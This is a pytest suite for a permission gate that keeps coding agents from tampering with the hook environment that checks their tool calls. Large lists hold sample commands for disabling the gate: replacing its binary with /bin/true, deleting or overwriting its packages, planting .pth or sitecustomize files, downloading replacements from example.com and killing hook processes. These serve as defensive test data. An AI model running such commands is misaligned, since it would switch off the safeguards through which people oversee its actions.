"""The environment that the gate runs from: its parts are not an agent's to change, and all else in it is."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import TYPE_CHECKING, Any

import pytest

from agent_hooks.trust.gate.environment import Environment

if TYPE_CHECKING:
    from pathlib import Path

    from environments import Gated

# ENV stands for the gate's environment, SITE for its packages.
LISTED = r"""
ln -sf /bin/true ENV/bin/agent-hooks
cp /bin/true ENV/bin/agent-hooks
echo 'exit 0' > ENV/bin/agent-hooks
ln -sf /bin/true ENV/bin/python
> SITE/agent_hooks_guards/__init__.py
rm SITE/agent_hooks_guards-0.1.0.dist-info/entry_points.txt
sed -i d SITE/agent_hooks_guards-*.dist-info/entry_points.txt
rm -rf SITE/pluggy
pip uninstall -y pluggy
""".strip().splitlines()

PARTS = r"""
echo x > SITE/agent_hooks/__init__.py
echo x > SITE/agent_hooks/protection/__pycache__/gate.cpython-311.pyc
echo x > SITE/__pycache__/typing_extensions.cpython-311.pyc
echo x > SITE/typing_extensions.py
mkdir SITE/typing_extensions
cp evil.so SITE/pydantic_core/_pydantic_core.cpython-311-x86_64-linux-gnu.so
tee SITE/pluggy/_hooks.py < /dev/null
rm -f SITE/platformdirs/*.py
rm -rf SITE/pluggy*
rm -rf SITE/plug*
rm -rf ENV/lib/python3*/site-packages/{pluggy,filelock}
rm -rf SITE
rm -rf SITE/
rm -rf ENV/lib
rm -rf ENV/bin
mv ENV/bin ENV/bin.off
mv SITE/agent_hooks /tmp
mv SITE/agent_hooks_core-0.1.0.dist-info /tmp
rm -rf SITE/agent_hooks_core-0.1.0.dist-info
rm -rf SITE/pydantic-*.dist-info
echo 'import os; os._exit(0)' > SITE/zz.pth
echo x > SITE/sitecustomize.py
echo x > SITE/usercustomize.py
mkdir SITE/sitecustomize
echo '[agent_hooks]' > SITE/evil-1.dist-info/entry_points.txt
cp /tmp/entry_points.txt SITE/evil-1.dist-info/
mv /tmp/not-there/evil-1.dist-info SITE/
tar xf evil.tar -C SITE
tar -xzf evil.tgz --directory=ENV
tar -C ENV/bin -xf evil.tar
unzip -o evil.zip -d SITE
7z x evil.7z -oSITE
git clone https://example.com/x SITE/pluggy
git clone https://example.com/x SITE/agent_hooks
rsync -a evil/ SITE/
rsync -a --delete evil/ ENV/
cp -r src/. SITE/pluggy
wget -P ENV/bin https://example.com/agent-hooks
curl -o ENV/bin/agent-hooks https://example.com/x
curl --output-dir ENV/bin -O https://example.com/python
install -m 755 /bin/true ENV/bin/agent-hooks-core
dd if=/dev/null of=ENV/bin/agent-hooks
truncate -s 0 ENV/bin/agent-hooks
shred -u ENV/bin/agent-hooks
chmod -x ENV/bin/agent-hooks
chmod -R a-x ENV/bin
sed -i 1d ENV/bin/agent-hooks
perl -pi -e 's/main/exit/' ENV/bin/agent-hooks
patch ENV/bin/agent-hooks fix.diff
ln -sf ../bin/true ENV/bin/python3
ln -sfn /tmp/evil SITE/pluggy
rm ENV/bin/python
unlink ENV/bin/python3
mv ENV/bin/python3.11 /tmp
echo > ENV/pyvenv.cfg
sed -i s/false/true/ ENV/pyvenv.cfg
cd ENV/bin && ln -sf /bin/true agent-hooks
cd ENV && rm -rf lib/python*/site-packages/pluggy
(cd SITE; rm -rf pydantic)
E=ENV; rm $E/bin/agent-hooks
rm "$VIRTUAL_ENV/bin/agent-hooks"
ln -sf /bin/true $(which agent-hooks)
cp /bin/true "$(command -v agent-hooks)"
cat /bin/true > $(which agent-hooks-core)
echo > $(which python)
ln -sf /bin/true "$(which python3)"
rm -rf $(python -c 'import pluggy; print(pluggy.__path__[0])')
echo x > "$(python -c 'import agent_hooks; print(agent_hooks.__file__)')"
cp evil.pth "$(python -c 'import site; print(site.getsitepackages()[0])')"
S=$(python -c 'import site; print(site.getsitepackages()[0])'); rm -rf $S/pluggy
rm -rf $(python -c 'import sys; print(sys.prefix)')
python -c "import sys, shutil; p = sys.prefix; shutil.rmtree(p)"
python -c "import sys; d=sys.executable; open(d, 'w')"
python -c "import importlib.metadata as m; open(m.distribution('agent-hooks-core').locate_file('x'), 'w')"
python -c "import pluggy, shutil; shutil.rmtree(pluggy.__path__[0])"
python -c "import pluggy; open(pluggy.__file__, 'w')"
python -c "open('ENV/bin/agent-hooks', 'w').write('')"
python -c "import os; os.remove('ENV/bin/python')"
python3 -c "import shutil; shutil.rmtree('SITE/pydantic')"
python -c "import os, sys; os.remove(sys.executable)"
python -c "import site, pathlib; pathlib.Path(site.getsitepackages()[0], 'x.pth').write_text('import os')"
python -c "import importlib.util as u, os; os.unlink(u.find_spec('pluggy').origin)"
python - <<< "import os; os.unlink('ENV/bin/python')"
node -e "require('fs').rmSync('SITE/pluggy', {recursive: true})"
perl -e 'unlink "ENV/bin/python"'
ruby -e 'File.delete("ENV/bin/agent-hooks")'
find SITE -name 'pluggy*' -exec rm -rf {} +
find ENV -name agent-hooks -delete
find . ENV -name pluggy -prune -exec rm -r {} \;
find ENV/bin -type f -delete
ls SITE | grep plug | xargs -I{} rm -rf SITE/{}
echo SITE/pluggy | xargs rm -rf
ln -s ENV v && rm -rf v/bin
ln ENV/bin/agent-hooks x
sh -c 'rm -rf SITE/pluggy'
echo 'rm -rf SITE/pluggy' | at now
while true; do pkill -f agent-hooks; done &
kill $(pgrep -f agent_hooks)
echo x > ~/.local/bin/agent-hooks-core
ln -sf /bin/true ~/.local/bin/agent-hooks
gzip SITE/pluggy/__init__.py
git -C SITE checkout -- pluggy
python -mpip uninstall -y pluggy
python -c "import os; os.unlink(os.path.join('ENV','bin','agent-hooks'))"
python -c "from pathlib import Path; (Path('ENV')/'bin'/'agent-hooks').unlink()"
python -c "import os; os.unlink('ENV'+'/bin/'+'agent'+'-hooks')"
python -c "import os; os.open('ENV/bin/agent-hooks', 577)"
python -c "import os as o; o.open('SITE/pluggy/__init__.py', 513)"
rm -rf ${VIRTUAL_ENV:?}/lib
rm -rf ${X:-ENV}/lib
rm -rf "${VIRTUAL_ENV%/}/bin"
D=ENV/bin/x; rm -rf "${D%/*}"
chmod 000 ENV/lib
chmod 600 ENV/lib
chmod u-x SITE
env --chdir=ENV/bin rm agent-hooks
env -C ENV/bin rm agent-hooks
sudo -D ENV/bin rm agent-hooks
uv run --directory SITE rm -rf pluggy
uv --directory SITE run rm -rf pluggy
echo pluggy > reqs.txt; pip uninstall -y -r reqs.txt
echo pluggy > reqs.txt; pip uninstall -yr reqs.txt
xargs rm -rf <<< ENV/bin
xargs rm < <(echo ENV/bin/agent-hooks)
printf 'ENV/bin/agent-hooks\0' | xargs -0 rm
rimraf ENV/bin
npx rimraf ENV/bin
srm -r ENV/bin
wipe -rf ENV/bin
git -C SITE apply /tmp/x.patch
git apply --directory=SITE/pluggy x.patch
git --work-tree=SITE checkout -f HEAD
GIT_WORK_TREE=SITE git checkout -f
strip -o ENV/bin/python /bin/true
dos2unix ENV/bin/agent-hooks
convert x ENV/bin/agent-hooks
mmv 'ENV/bin/agent*' 'ENV/bin/x#1'
python -c "import importlib.resources as r; r.files('pluggy').joinpath('__init__.py').write_text('')"
python -c "import importlib.metadata as m; [f.locate().unlink() for f in m.files('pluggy')]"
python -c "import importlib.metadata as m; [f.locate().unlink() for f in m.distribution('agent-hooks-guards').files]"
python -c "import pluggy, pathlib; pathlib.Path(pluggy.__spec__.origin).unlink()"
echo x > "$(python -m site --user-site)/../x/sitecustomize.py"
gio trash ENV/bin
gio trash SITE/pluggy
gio move /tmp/x ENV/bin/agent-hooks
tar xPf evil.tar
tar -xPf evil.tar
tar --extract --absolute-names -f evil.tar
rclone copy /tmp/evil SITE
rclone sync /tmp/evil SITE
rclone copy src SITE
rclone copyto /tmp/evil ENV/bin/agent-hooks
rclone delete SITE
rclone purge SITE/pluggy
aria2c -d ENV/bin https://example.com/agent-hooks
wget --directory-prefix=ENV/bin https://example.com/agent-hooks
curl --output-dir=ENV/bin -O https://example.com/python
aria2c --dir=ENV/bin https://example.com/agent-hooks
conda install -p ENV -y numpy
grep -rl x SITE | while read f; do echo > "$f"; done
grep -rl x SITE | while read -r f; do rm "$f"; done
""".strip().splitlines()

# Calls of other tools.
WRITES: list[tuple[str, dict[str, Any], str | None]] = [
    ("Write", {"file_path": "SITE/pluggy/__init__.py", "content": ""}, None),
    ("Write", {"file_path": "ENV/bin/agent-hooks", "content": ""}, None),
    ("Write", {"file_path": "SITE/x.pth", "content": "import os"}, None),
    ("Write", {"file_path": "SITE/evil-1.dist-info/entry_points.txt", "content": "[agent_hooks]\nx = x"}, None),
    ("Edit", {"file_path": "SITE/agent_hooks/wire/answer.py", "old_string": "2", "new_string": "0"}, None),
    ("Edit", {"file_path": "ENV/pyvenv.cfg", "old_string": "false", "new_string": "true"}, None),
    ("apply_patch", {"input": "*** Begin Patch\n*** Delete File: SITE/pluggy/__init__.py\n*** End Patch"}, None),
    ("apply_patch", {"input": "*** Update File: a.py\n*** Move to: SITE/sitecustomize.py\n@@\n-1\n+2\n"}, None),
    ("mcp__fs__write_file", {"path": "SITE/agent_hooks_guards/__init__.py", "content": ""}, "mcp"),
    ("mcp__fs__move_file", {"source": "SITE/pluggy", "destination": "/tmp/x"}, "mcp"),
    ("remove", {"path": "SITE/pluggy"}, "delete"),
    ("remove", {"path": "SITE"}, "delete"),
]

HARMLESS = r"""
rm -rf SITE/other
rm -rf SITE/other-0.1.0.dist-info
sed -i s/a/b/ SITE/other/__init__.py
echo x > SITE/other/new.py
mkdir SITE/newpackage
cat SITE/pluggy/__init__.py
cp SITE/pluggy/__init__.py /tmp/pluggy.py
cp -r SITE/pluggy /tmp/pluggy
grep -rn hookimpl SITE/pluggy
ls -la SITE ENV/bin
tar czf /tmp/venv.tgz ENV
du -sh ENV/lib
source ENV/bin/activate && pytest -q
ENV/bin/python -m pytest -q > /tmp/out.txt
ENV/bin/pip list
ENV/bin/python -c "print(1)" > out.txt
ln -s ENV/bin/python3 python
ln -s ENV venv
find . -name '*.pyc' -delete
find . -name __pycache__ -exec rm -rf {} +
find . -name __pycache__ | xargs rm -rf
find . -type d -name __pycache__ -prune -exec rm -r {} \;
find . -path ./.venv -prune -o -name '*.py' -exec sed -i s/a/b/ {} +
find . -name '*.py' -not -path './.venv/*' | xargs black
find . -name '*.egg-info' -exec rm -rf {} +
find . -name .DS_Store -delete
find . -type d -empty -delete
find src -name '*.py' -delete
rm -rf build dist *.egg-info
rm -rf src/__pycache__
rm -f *.log
rm -rf *
rm -rf node_modules
rm -rf /tmp/venv && python -m venv /tmp/venv
chmod -R u+w .
chmod -R 755 ENV
chown -R $USER .
python -c "import pluggy; print(pluggy.__file__, pluggy.__version__)"
python -c "import agent_hooks; print(agent_hooks.__path__)" > where.txt
python -c "import sys; print(sys.executable)"
python -c "import site; print(site.getsitepackages())"
python -c "import os; os.makedirs('out', exist_ok=True); open('out/x', 'w')"
cat $(python -c 'import pluggy; print(pluggy.__file__)')
ls $(dirname $(which python))
which agent-hooks python
cp $(which python) /tmp/python
rsync -a src/ backup/
rsync -a --exclude .venv . /tmp/copy/
tar xzf data.tgz
unzip data.zip
unzip data.zip -d data
git clean -fd
git clean -n -x
git clean -fdx -e .venv
git clean -fdX build
git stash -u
pkill -f pytest
kill %1
echo .venv >> .gitignore
echo 'source .venv/bin/activate' >> .envrc
sed -i 's#.venv/bin/python#python#' Makefile
touch requirements.txt
python -m compileall src
mkdir -p ~/.local/bin && cp tool ~/.local/bin/tool
python -c "from importlib.metadata import entry_points; print(entry_points(group='agent_hooks'))"
python -c "from importlib.metadata import entry_points; print([e.name for e in entry_points(group='agent_hooks')])"
python -c "import importlib.metadata as m; print(m.files('pluggy'))"
python -c "import importlib.metadata as m; print(m.distribution('pluggy').metadata['Version'])"
python -c "import importlib.util; print(importlib.util.find_spec('agent_hooks'))"
python -c "import pluggy,os; print(os.path.dirname(pluggy.__file__))"
python -c "import os, agent_hooks; print(os.listdir(os.path.dirname(agent_hooks.__file__)))"
python -c "import pluggy, inspect; print(inspect.getsource(pluggy.HookCaller))"
python -c "import json; print(json.__file__)"
python -c "import importlib; importlib.import_module('app').main()"
python -c "import importlib.util as u; print(u.find_spec('numpy') is not None)"
python -c "import pkgutil, agent_hooks; print([m.name for m in pkgutil.iter_modules(agent_hooks.__path__)])"
python -c "import pkgutil, app; [print(m.name) for m in pkgutil.walk_packages(app.__path__)]"
python - <<< "import importlib, app; importlib.reload(app)"
python -c "from importlib.resources import files; print(files('app').joinpath('x.txt').read_text())"
python -c "from importlib.resources import files; (files('app')/'x.txt').write_text('a')"
python -c "import os; print(os.path.join('.venv','bin'))"
python -c "import os; print(os.listdir('.venv/bin'))"
python -c "import subprocess; subprocess.run(['.venv/bin/pytest','-q'])"
python -c "import subprocess,sys; p=sys.executable; subprocess.run([p,'-m','pytest'])"
python -c "import sys; p=sys.prefix; print(p)"
python -c "import sys, shutil; p=sys.prefix; shutil.rmtree('build'); print(p)"
python -c "open('out.txt','w').write(str(__import__('sys').prefix))"
python -c "import sys; prefix=sys.argv[1]; open(prefix+'x','w')" a
chmod 755 .venv
chmod 700 ~/.ssh
chmod 644 README.md
chmod 600 .env
chmod -R 755 .
chmod -R go-rwx .
chmod -R u=rwX,go=rX .
chmod go-w .venv
chmod o-rwx .
chmod a+x scripts
chmod -x script.sh
chmod -R a+rX dist
git -C sub checkout main
git -C ../other reset --hard
git -C . checkout main
git --work-tree=/tmp/out checkout HEAD -- src
GIT_WORK_TREE=/tmp/out git checkout-index -a
git reset --hard
git apply --directory=sub fix.patch
env -C sub make test
env --chdir=src python -c 'print(1)'
sudo -D /srv ls
uv --directory sub run pytest
uv run --directory sub rm -rf build
rm -rf ${BUILD_DIR:-build}
rm -rf "${TMPDIR:-/tmp}/x"
rm -rf "${OUT:?}/"*
rm -rf ${X%/}/y
rm -f "${FILE%.txt}.bak"
find . -not -path './.venv/*' -name '*.pyc' -delete
find . -type f -not -path './.venv/*' -not -path './.git/*' -name '*.orig' -delete
find . ! -path './.venv/*' -name '*.tmp' -exec rm {} +
find . -type f ! -path './.venv/*' -mtime +30 -delete
find . -type d -name build -not -path './.venv/*' -exec rm -rf {} +
convert a.png -resize 50% b.png
magick a.png b.jpg
dos2unix src/*.py
conda create -n x python=3.11 -y
conda create -p ./envs/x python=3.11
mamba install numpy
ls *.tmp | xargs rm -f
xargs rm -f <<< "a b"
xargs -0 rm -f < <(find . -name '*.tmp' -print0)
printf 'a\0b\0' | xargs -0 rm
git ls-files -z --deleted | xargs -0 git rm
pip uninstall -yr dev-requirements.txt
echo requests > r.txt; pip uninstall -y -r r.txt
agent-hooks check 'pip uninstall pluggy'
agent-hooks check --tool Bash 'agent-hooks trust'
agent-hooks-core check "rm -rf .venv"
uv python uninstall 3.9 3.10
pyenv uninstall 3.8.1
cp -r $(python -c 'import pluggy,os; print(os.path.dirname(pluggy.__file__))') /tmp/pluggy-src
find . -name '__pycache__' -not -path './.venv/*' -delete
agent-hooks check --tool Bash 'rm -rf /'
gio trash build
gio open README.md
gio list ENV
tar xf data.tar
tar xpf data.tar
tar cPf /tmp/x.tar src
rclone copy src remote:backup
rclone copy remote:data data
rclone copy ENV remote:backup
aria2c https://example.com/x.zip
aria2c -d downloads https://example.com/x.zip
npm install --prefix web
npm install --prefix ./web left-pad
npm ci
conda install -p ./envs/x numpy
grep -rl x src | while read f; do echo > "$f"; done
grep -rl x SITE | while read f; do echo "$f"; done
grep -rl x SITE | while read f; do wc -l "$f" > out.txt; done
poetry env info -p
source "$(poetry env info --path)/bin/activate" && rm -rf build
V=$(poetry env info -p); rm -rf dist && "$V/bin/pytest" -q
tar -xf data.tar -C Pictures
tar -xf data.tar -CPictures
tar xzvf Photos.tgz
tar -C out -xpf data.tar
gio copy README.md docs/
wget -P downloads https://example.com/x
rclone copy remote:data .
rclone sync src remote:src
rclone copy SITE /tmp/packages
ls "$(poetry env info -p)"
""".strip().splitlines()


def agrees(gated: Gated, tool: str, args: dict[str, Any], expected: str) -> None:
    """The real command and the library decide so."""
    args = {key: gated.filled(value) for key, value in args.items()}
    decision, reason = gated.run(tool, args)
    assert decision == expected, reason
    assert gated.asked(tool, args)[0] == expected
    if expected == "deny":
        assert "denied to agents" in reason
        assert "ask a person" in reason


@pytest.mark.parametrize("command", LISTED)
def test_no_ordinary_command_switches_the_gate_off(gated: Gated, command: str):
    agrees(gated, "Bash", {"command": command}, "deny")


@pytest.mark.parametrize("command", PARTS)
def test_a_part_of_the_gate_is_not_written_removed_or_moved(gated: Gated, command: str):
    assert gated.decides(command) == "deny"


@pytest.mark.parametrize(("tool", "args", "kind"), WRITES, ids=[f"{tool} {args}" for tool, args, _ in WRITES])
def test_no_tool_changes_a_part_of_the_gate(gated: Gated, tool: str, args: dict[str, Any], kind: str | None):
    filled = {key: gated.filled(value) for key, value in args.items()}
    decision, reason = gated.asked(tool, filled, kind)
    assert decision == "deny", reason
    assert "denied to agents" in reason


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("configure_python_environment", {"pythonPath": "ENV/bin/python"}),
        ("run_tests", {"interpreter": "ENV/bin/python", "folder": "tests"}),
        ("mcp__ide__open_file", {"path": "SITE/pluggy/__init__.py"}),
        ("Read", {"file_path": "SITE/pluggy/__init__.py"}),
        ("Grep", {"pattern": "x", "path": "SITE/pluggy"}),
    ],
)
def test_a_tool_may_use_a_part_of_the_gate(gated: Gated, tool: str, args: dict[str, Any]):
    filled = {key: gated.filled(value) for key, value in args.items()}
    assert gated.asked(tool, filled)[0] == "proceed"


@pytest.mark.parametrize("command", HARMLESS)
def test_whatever_else_is_in_the_environment_is_left_alone(gated: Gated, command: str):
    assert gated.decides(command) == "proceed"


@pytest.mark.parametrize("tool", ["Write", "Edit"])
@pytest.mark.parametrize(
    "path", ["SITE/other/__init__.py", "SITE/new.py", "ENV/bin/activate", "ENV/share/x", "src/a.py"]
)
def test_another_file_of_the_environment_may_be_written(gated: Gated, tool: str, path: str):
    args = {"file_path": path, "content": "x", "old_string": "a", "new_string": "b"}
    agrees(gated, tool, args, "proceed")


# -- a whole environment -----------------------------------------------------------------------------------------------

WHOLE = r"""
rm -rf ENV
rm -rf ENV/
rm -rf ENV && python -m venv ENV
mv ENV ENV.old
mv ENV /tmp/old
python -m venv --clear ENV
virtualenv --clear ENV
uv venv ENV
find ENV -delete
find ENV -type f -delete
ln -sfn /tmp/evil ENV
chmod -R 000 ENV
python -c "import shutil; shutil.rmtree('ENV')"
pip freeze | xargs pip uninstall -y
python -mvenv --clear ENV
rm -rf "${VIRTUAL_ENV:?}"
chmod 0 ENV
chmod a-rx ENV
chmod -R 644 ENV
python -c "import venv; venv.create('ENV', clear=True)"
""".strip().splitlines()
# As above, where the environment is the project's own.
OF_PROJECT = r"""
rm -rf .ven*
rm -rf .
git clean -fdx
git clean -xdff
git clean -fX .
uv venv --clear
poetry env remove --all
pipenv --rm
find . -delete
find . -type f -mtime +30 -delete
""".strip().splitlines()


def questions(gated: Gated, command: str) -> str:
    """What the real command says about ``command``, in the words that a person is asked with."""
    decision, reason = gated.run("Bash", {"command": gated.filled(command)})
    assert decision == ("ask" if gated.inside else "deny"), reason
    return reason


@pytest.mark.parametrize("command", ["rm -rf ENV && python -m venv ENV", "mv ENV /tmp/old"])
def test_the_environment_that_a_host_runs_the_gate_from_is_taken_away_only_where_a_person_agrees(
    gated: Gated, command: str
):
    reason = questions(gated, command)
    if gated.inside:
        assert "a coding agent's hooks run from the environment in it" in reason
    else:
        assert "is denied to agents" in reason
    assert "agent" in reason


def test_a_host_that_cannot_ask_is_given_a_deny(gated: Gated):
    decision, reason = gated.run("Bash", {"command": gated.filled("rm -rf ENV")}, "codex")
    assert decision == "deny", reason


@pytest.mark.parametrize("command", WHOLE)
def test_where_no_host_runs_the_gate_the_projects_own_environment_is_its_own_business(gated: Gated, command: str):
    assert gated.decides(command) == ("proceed" if gated.inside else "deny")


@pytest.mark.parametrize("command", OF_PROJECT)
def test_a_project_may_be_cleaned_where_no_host_runs_the_gate_from_it(gated: Gated, command: str):
    if not gated.inside and command in ("poetry env remove --all", "pipenv --rm"):
        command = "true"  # nobody knows whose these are
    assert gated.decides(command) == "proceed"


WIRING = {
    "codex": (
        ".codex/hooks.json",
        '{"hooks": {"PreToolUse": [{"hooks": [{"command": "ENV/bin/agent-hooks-core run"}]}]}}',
    ),
    "codex_toml": (
        ".codex/config.toml",
        "[[hooks.PreToolUse]]\n[[hooks.PreToolUse.hooks]]\ncommand = 'ENV/bin/agent-hooks-core'\n",
    ),
    "claude": (
        ".claude/settings.json",
        '{"hooks": {"Stop": [{"hooks": [{"command": "$CLAUDE_PROJECT_DIR/.venv/bin/agent-hooks run"}]}]}}',
    ),
    "gemini": (
        ".gemini/settings.json",
        '{"hooks": {"BeforeTool": [{"hooks": [{"command": "\'ENV/bin/python\' -m agent_hooks run"}]}]}}',
    ),
    "launcher": (
        ".cursor/hooks.json",
        '{"version": 1, "hooks": {"preToolUse": [{"command": "HOME/agent-hooks-run"}]}}',
    ),
}


@pytest.mark.parametrize("where", ["home", "project"])
@pytest.mark.parametrize("name", WIRING)
def test_an_environment_that_the_settings_of_some_host_lead_into_is_not_taken_in_passing(
    gated: Gated, name: str, where: str
):
    place, text = WIRING[name]
    file = (gated.home if where == "home" else gated.project) / place
    file.parent.mkdir(exist_ok=True)
    launcher = gated.home / "agent-hooks-run"
    launcher.write_text(f"#!/bin/sh\nexec {gated.environment.bin}/agent-hooks-core run\n")
    file.write_text(text.replace("ENV", str(gated.environment.folder)).replace("HOME", str(gated.home)))
    commands = ["rm -rf ENV", *(WHOLE + OF_PROJECT if name == "codex" and gated.inside else [])]
    try:
        for command in commands:
            assert gated.decides(command) == ("ask" if gated.inside else "deny"), command
        assert gated.decides("rm -rf ENV; agent-hooks trust") == "deny"
        expected = "ask" if gated.inside else "deny"
        assert gated.asked("remove", {"path": gated.filled("ENV")}, "delete")[0] == expected
        assert gated.decides("rm -rf build && git clean -fd") == "proceed"
    finally:
        file.unlink()
        launcher.unlink()
        file.parent.rmdir()


def test_another_environment_is_left_alone_unless_a_hosts_settings_lead_into_it(gated: Gated, tmp_path: Path):
    for other in (gated.project / "env2", tmp_path / "elsewhere"):
        (other / "bin").mkdir(parents=True)
        (other / "pyvenv.cfg").write_text("")
        command = f"rm -rf {other} && python -m venv {other}; echo x > {other}/lib/python3.11/site-packages/x.pth"
        assert gated.decides(command) == "proceed"
        settings = gated.home / ".gemini" / "settings.json"
        settings.parent.mkdir()
        settings.write_text(f'{{"hooks": {{"BeforeTool": [{{"command": "{other}/bin/agent-hooks-core run"}}]}}}}')
        assert gated.decides(f"rm -rf {other}") == ("ask" if other.name == "env2" else "deny")
        settings.unlink()
        settings.parent.rmdir()


# -- the stored list ---------------------------------------------------------------------------------------------------

_NAMES = (
    "import sys, json\nfrom agent_hooks.trust.gate.environment import Environment\n"
    "opened = []\n"
    "sys.addaudithook(lambda name, args: opened.append(str(args[0])) if name == 'open' else None)\n"
    "names = sorted(Environment().parts.names)\n"
    "print(json.dumps([names, sum('dist-info' in path for path in opened)]))"
)


def _names(gated: Gated, state: Path) -> tuple[list[str], int]:
    program = [str(gated.environment.bin / "python"), "-c", _NAMES]
    variables = {**gated.variables, "AGENT_HOOKS_STATE_DIR": str(state)}
    done = subprocess.run(program, capture_output=True, text=True, env=variables, check=True, timeout=60)
    names, opened = json.loads(done.stdout)
    return names, opened


def test_the_list_is_read_once_for_each_state_of_the_environment(gated: Gated, tmp_path: Path):
    first, read = _names(gated, tmp_path / "state")
    assert {"agent_hooks", "agent_hooks_guards", "pluggy", "typing_extensions"} <= set(first)
    assert "other" not in first
    assert read > 10
    assert _names(gated, tmp_path / "state") == (first, 0)
    gated.environment.install("added", "[agent_hooks]\nadded = added\n")
    again, read = _names(gated, tmp_path / "state")
    assert set(again) - set(first) == {"added"}
    assert read > 10


@pytest.mark.parametrize("text", ["", "{}", "[]", '{"state": null}', "\0"])
def test_a_list_that_is_damaged_is_made_again(gated: Gated, tmp_path: Path, text: str):
    first, _ = _names(gated, tmp_path / "state")
    (kept,) = (tmp_path / "state").iterdir()
    kept.write_text(text)
    assert _names(gated, tmp_path / "state")[0] == first


def test_where_nothing_can_be_stored_the_list_is_read_again(gated: Gated, tmp_path: Path):
    (tmp_path / "state").write_text("in the way")
    assert "pluggy" in _names(gated, tmp_path / "state")[0]


def test_the_interpreter_under_the_environment_is_a_part_of_the_gate(tmp_path: Path):
    made = Environment(
        str(tmp_path / "prefix"), [], str(tmp_path / "base" / "lib"), [str(tmp_path / "base" / "bin" / "python3")]
    )
    assert made.find(str(tmp_path / "base" / "lib" / "os.py"))
    assert made.find(str(tmp_path / "base" / "bin" / "python3"))
    assert not made.find(str(tmp_path / "base" / "bin" / "python3"), is_link=True)
    assert Environment().find(os.path.realpath(os.__file__).casefold())
    assert Environment().holds(os.path.dirname(os.path.realpath(os.__file__)).casefold())
    assert not Environment().find(f"{os.path.realpath(sys.prefix)}/lib/elsewhere.py".casefold())


def test_an_environment_below_a_folder_with_capital_letters_is_looked_into(tmp_path: Path):
    site = tmp_path / "Project" / ".venv" / "lib" / "site-packages"
    site.mkdir(parents=True)
    (site / "a.pth").write_text("")
    made = Environment(str(tmp_path / "Project" / ".venv"), [str(site)], "/base", [])
    assert made.holds(str(site.parent).casefold())


def test_the_sources_of_an_editable_install_are_parts_of_the_gate_outside_their_project(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    root = tmp_path / "Checkout" / "src"
    (root / "agent_hooks").mkdir(parents=True)
    monkeypatch.setattr(sys, "path", [*sys.path, str(root)])
    monkeypatch.setenv("AGENT_HOOKS_STATE_DIR", str(tmp_path / "state"))
    made, own = Environment(), Environment(project=str(root.parent))
    for name in ("agent_hooks_core.py", "agent_hooks/cli/run.py", "pluggy.py"):
        assert made.find(str(root / name).casefold())
        assert not own.find(str(root / name).casefold())
    assert made.holds(str(root.parent).casefold())
    assert not made.find(str(root / "notes.py").casefold())
    assert not made.find(str(root.parent / "README.md").casefold())


def test_a_folder_of_imports_around_the_environment_hides_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """As that of a script, or of an editable install whose environment is in it."""
    monkeypatch.setenv("AGENT_HOOKS_STATE_DIR", str(tmp_path / "state"))
    root = str(tmp_path).casefold()
    site = f"{root}/.venv/lib/python3/site-packages"
    made = Environment(f"{root}/.venv", [root, site], f"{root}/.venv/lib/python3", [])
    for part in (f"{site}/agent_hooks/cli/run.py", f"{root}/.venv/pyvenv.cfg", f"{root}/.venv/lib/python3/os.py"):
        assert made.find(part)
    for other in (f"{root}/app.py", f"{root}/.venv/notes.txt", f"{site}/notes.py"):
        assert not made.find(other)


def test_a_checkout_that_nothing_is_imported_from_has_files_like_any_other(tmp_path: Path):
    made = Environment(str(tmp_path / ".venv"), [str(tmp_path / ".venv/lib/python3/site-packages")], "/base", [])
    assert not made.find(str(tmp_path / "src" / "agent_hooks" / "trust.py"))
    assert made.find(str(tmp_path / ".venv/lib/python3/site-packages/_editable_impl_agent_hooks_core.pth"))
